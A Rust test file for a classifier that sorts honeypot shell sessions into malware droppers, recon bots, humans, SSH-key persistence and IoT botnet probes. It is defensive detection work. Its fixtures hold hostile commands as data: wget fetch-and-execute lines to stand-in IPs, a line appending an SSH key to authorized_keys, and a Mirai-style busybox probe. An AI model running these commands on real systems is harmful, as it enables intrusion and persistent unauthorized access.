//! Tests of the classifier: small datasets with known answers, and (ignored) the held-out
//! targets on the real corpus.

mod small {
    use super::super::tree::{Node, Tree};
    use super::super::*;

    fn example(class: Class, lines: &[(f64, &str)]) -> Example {
        Example {
            lines: lines
                .iter()
                .map(|(t, l)| (Some(*t), (*l).to_owned()))
                .collect(),
            protocol: Protocol::default(),
            class,
        }
    }

    /// Droppers fetch in their second command; recon bots never do; a human types slowly.
    fn dataset() -> Vec<Example> {
        let mut examples = Vec::new();
        for i in 0..20 {
            let t = f64::from(i);
            examples.push(example(
                Class::MalwareDropper,
                &[
                    (0.0, "uname -a"),
                    (1.0, "cd /tmp; wget http://198.51.100.9/x; chmod +x x; ./x"),
                ],
            ));
            examples.push(example(
                Class::ReconFingerprint,
                &[
                    (0.0, "uname -a"),
                    (1.0, "cat /proc/cpuinfo"),
                    (2.0 + t, "free -m"),
                ],
            ));
        }
        for _ in 0..5 {
            examples.push(example(
                Class::InteractiveHuman,
                &[
                    (0.0, "ls"),
                    (4.0, "cd /var"),
                    (5.5, "ls -la"),
                    (19.0, "cat log"),
                    (21.0, "pwd"),
                ],
            ));
        }
        examples
    }

    fn predict(
        model: &ClassifierModel,
        lines: &[(f64, &str)],
        commands: Option<usize>,
    ) -> Prediction {
        let lines: Vec<_> = lines
            .iter()
            .map(|(t, l)| (Some(*t), (*l).to_owned()))
            .collect();
        model.predict(&features_after(&lines, &Protocol::default(), None, commands).vector(None))
    }

    #[test]
    fn a_tree_learns_the_classes_of_a_small_dataset() {
        let tree = TrainParams {
            trees: 1,
            ..TrainParams::default()
        };
        let model = ClassifierModel::train(&dataset(), &tree, None).unwrap();
        let dropper = [
            (0.0, "uname -a"),
            (1.0, "cd /tmp; wget http://203.0.113.7/y; sh y"),
        ];
        let p = predict(&model, &dropper, None);
        assert_eq!(p.class, Class::MalwareDropper);
        assert!(p.confidence > 0.99, "{p:?}");
        let recon = [
            (0.0, "uname -a"),
            (1.0, "cat /proc/cpuinfo"),
            (9.0, "free -m"),
        ];
        assert_eq!(predict(&model, &recon, None).class, Class::ReconFingerprint);
        let human = [
            (0.0, "ls"),
            (6.0, "cd /etc"),
            (7.0, "ls -l"),
            (30.0, "cat passwd"),
        ];
        assert_eq!(predict(&model, &human, None).class, Class::InteractiveHuman);
        // After its first command, `uname -a` is as likely a dropper as a recon bot: the
        // model says one of them, about half sure.
        let first = predict(&model, &recon, Some(1));
        assert!(
            matches!(first.class, Class::MalwareDropper | Class::ReconFingerprint)
                && (0.4..0.6).contains(&first.confidence),
            "{first:?}"
        );
    }

    #[test]
    fn the_model_never_names_a_class_the_rules_ruled_out() {
        let model = ClassifierModel::train(&dataset(), &TrainParams::default(), None).unwrap();
        // No training session planted a key; the trees would call this a dropper or a recon
        // bot, but once R2 fired the label can only be R1 or R2.
        let key = [
            (0.0, "uname -a"),
            (
                1.0,
                "cd /tmp; wget http://203.0.113.7/k; echo ssh-rsa AAAA >> .ssh/authorized_keys",
            ),
        ];
        let p = predict(&model, &key, None);
        assert_eq!(p.class, Class::SshKeyPersistence);
        assert_eq!(p.confidence, 0.0, "the trees know nothing of it");
        let free = ClassifierModel {
            params: TrainParams {
                rule_consistent: false,
                abstain: 0.0,
                ..model.params.clone()
            },
            ..model.clone()
        };
        assert_ne!(predict(&free, &key, None).class, Class::SshKeyPersistence);
        // Without the restriction but abstaining, the trees claim nothing and the rules'
        // verdict is the class again.
        let abstaining = ClassifierModel {
            params: TrainParams {
                abstain: 0.5,
                ..free.params.clone()
            },
            ..free.clone()
        };
        assert_eq!(
            predict(&abstaining, &key, None).class,
            Class::SshKeyPersistence
        );
        // A fired R1 is final, whatever else the session did.
        let mirai = [(0.0, "wget http://203.0.113.7/x; /bin/busybox ECCHI")];
        let p = predict(&model, &mirai, None);
        assert_eq!((p.class, p.confidence), (Class::IotBotnetProbe, 1.0));
    }

    #[test]
    fn prefixes_are_taken_after_every_command_and_at_the_end() {
        let lines = vec![
            (Some(0.0), "uname -a".to_owned()),
            (Some(1.0), "cd /tmp; wget http://x/y; sh y".to_owned()),
        ];
        let rows = prefix_vectors(&lines, &Protocol::default(), None);
        assert_eq!(rows.len(), 4);
        assert_eq!(
            rows.iter().map(|r| r[1]).collect::<Vec<_>>(),
            [1.0, 2.0, 3.0, 4.0]
        );
        assert_eq!(
            features_after(&lines, &Protocol::default(), None, Some(3)).commands(),
            3
        );
        assert_eq!(
            rows[2],
            features_after(&lines, &Protocol::default(), None, Some(3)).vector(None)
        );
    }

    #[test]
    fn training_is_deterministic_and_a_forest_votes() {
        let params = TrainParams {
            trees: 5,
            ..TrainParams::default()
        };
        let a = ClassifierModel::train(&dataset(), &params, None).unwrap();
        let b = ClassifierModel::train(&dataset(), &params, None).unwrap();
        assert_eq!(a.to_json(), b.to_json());
        assert_eq!(a.trees.len(), 5 * CLASSES.len());
        let dropper = [
            (0.0, "uname -a"),
            (
                1.0,
                "cd /var/tmp; wget http://203.0.113.7/y; chmod +x y; ./y",
            ),
        ];
        let p = predict(&a, &dropper, None);
        assert_eq!(p.class, Class::MalwareDropper);
        assert!(p.confidence > 0.9, "{p:?}");
    }

    #[test]
    fn the_model_survives_a_json_round_trip_and_refuses_other_formats() {
        let model = ClassifierModel::train(&dataset(), &TrainParams::default(), None).unwrap();
        let back = ClassifierModel::from_json(&model.to_json()).unwrap();
        assert_eq!(back, model);
        let other = model
            .to_json()
            .replacen("\"version\":2", "\"version\":99", 1);
        assert!(matches!(
            ClassifierModel::from_json(&other),
            Err(ClassifierError::Version { found: 99 })
        ));
        assert!(ClassifierModel::from_json("{}").is_err());
        assert!(matches!(
            ClassifierModel::train(&[], &TrainParams::default(), None),
            Err(ClassifierError::Empty)
        ));
    }

    #[test]
    fn a_malformed_tree_predicts_nothing_rather_than_panicking() {
        let model = ClassifierModel {
            version: FORMAT_VERSION,
            features: NAMES.iter().map(|n| (*n).to_owned()).collect(),
            params: TrainParams::default(),
            rows: 0,
            sessions: 0,
            priors: vec![0.0; CLASSES.len()],
            phases: false,
            trees: vec![Tree {
                nodes: vec![Node::Split {
                    feature: FEATURES + 5,
                    threshold: 0.0,
                    left: 0,
                    right: 7,
                }],
            }],
        };
        let p = model.predict(&[0.0; FEATURES]);
        assert_eq!(p.confidence, 0.0);
        let looped = Tree {
            nodes: vec![Node::Split {
                feature: 0,
                threshold: 1.0,
                left: 0,
                right: 0,
            }],
        };
        assert_eq!(looped.leaf(&[0.0; FEATURES]), None);
    }
}

/// The real corpus, when it is there (`../shared/data`): the held-out targets of issue 6.
/// `cargo test --lib corpus_targets -- --ignored --nocapture` (prints the variants too).
mod corpus {
    use super::super::*;
    use crate::models::evaluate::{self, Session, classifier_input, holdout, read_corpus};
    use crate::models::features::SessionFeatures;

    fn judge(model: &ClassifierModel, test: &[Session]) -> (f64, f64, usize, usize) {
        let (mut early, mut end, mut agree) = (0, 0, 0);
        for s in test {
            let (lines, protocol) = classifier_input(s);
            let truth = s.label.as_deref().and_then(class_named);
            let at = |n| model.predict(&features_after(&lines, &protocol, None, n).vector(None));
            early += usize::from(Some(at(Some(3)).class) == truth);
            let f = features_after(&lines, &protocol, None, None);
            end += usize::from(Some(model.predict(&f.vector(None)).class) == truth);
            agree += usize::from(Some(f.rule_class()) == truth);
        }
        let n = test.len() as f64;
        (early as f64 / n, end as f64 / n, agree, test.len())
    }

    #[test]
    #[ignore = "reads ../shared/data/sessions-train.jsonl"]
    fn corpus_targets() {
        let path = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../shared/data/sessions-train.jsonl"
        );
        let Ok(text) = std::fs::read_to_string(path) else {
            return;
        };
        let (train, test) = holdout(read_corpus(&text).unwrap(), 0.2);
        let default = TrainParams::default();
        let forest = TrainParams {
            trees: 15,
            ..default.clone()
        };
        let variants = [
            ("default (one set)", default.clone()),
            (
                "without rule features",
                TrainParams {
                    without_rules: true,
                    ..default.clone()
                },
            ),
            (
                "free decoding",
                TrainParams {
                    rule_consistent: false,
                    ..default.clone()
                },
            ),
            (
                "equal weight per session",
                TrainParams {
                    per_session_weight: true,
                    ..default.clone()
                },
            ),
            (
                "end row weight 5",
                TrainParams {
                    end_weight: 5.0,
                    ..default.clone()
                },
            ),
            (
                "no smoothing",
                TrainParams {
                    smoothing: 0.0,
                    ..default.clone()
                },
            ),
            (
                "no abstaining",
                TrainParams {
                    abstain: 0.0,
                    ..default.clone()
                },
            ),
            (
                "abstain below 0.2",
                TrainParams {
                    abstain: 0.2,
                    ..default.clone()
                },
            ),
            (
                "smoothing 10",
                TrainParams {
                    smoothing: 10.0,
                    ..default.clone()
                },
            ),
            ("forest of 15 bags", forest.clone()),
            (
                "forest without rule features",
                TrainParams {
                    without_rules: true,
                    ..forest
                },
            ),
        ];
        for (name, params) in variants {
            let started = std::time::Instant::now();
            let model = evaluate::train_classifier(&train, &params, None).unwrap();
            let trained = started.elapsed();
            let (after_3, at_end, agree, n) = judge(&model, &test);
            println!(
                "{name:<26} after_3 {after_3:.3} at_end {at_end:.3} ({}; {} rows; fit {trained:.1?}; rules replica agrees {agree}/{n})",
                model.describe(),
                model.rows
            );
            assert_eq!(
                agree, n,
                "the counted rules label every held-out session as the corpus"
            );
            // What a live session pays per line: push the line, read the vector, predict.
            let (mut updates, started) = (0u32, std::time::Instant::now());
            for s in &test {
                let (lines, protocol) = classifier_input(s);
                let mut f = SessionFeatures::new(protocol);
                for (at, line) in &lines {
                    f.push(*at, line);
                    std::hint::black_box(model.predict(&f.vector(None)));
                    updates += 1;
                }
            }
            let per_update = started.elapsed() / updates;
            println!(
                "{:<26} {per_update:.1?} per line update ({updates} lines)",
                ""
            );
            assert!(per_update < std::time::Duration::from_millis(1));
            if name.starts_with("default") {
                assert!(after_3 >= 0.90 && at_end >= 0.97, "{after_3} {at_end}");
            }
        }
    }
}
